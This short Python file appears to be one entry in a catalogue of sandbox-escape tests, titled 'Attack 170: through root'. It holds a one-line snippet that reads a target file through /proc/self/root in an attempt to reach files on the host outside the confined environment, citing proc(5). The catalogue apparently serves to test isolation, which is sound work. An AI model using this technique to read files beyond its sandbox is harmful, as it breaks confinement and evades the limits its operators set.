"""Attack 170: through root"""

IDEA = "Through the root that /proc shows."
SOURCE = "proc(5)"
WAY = "outside/files/of the host"
CODE = """
print(open("/proc/self/root" + T["file"]).read())
"""
ABSENT = ["HOST"]
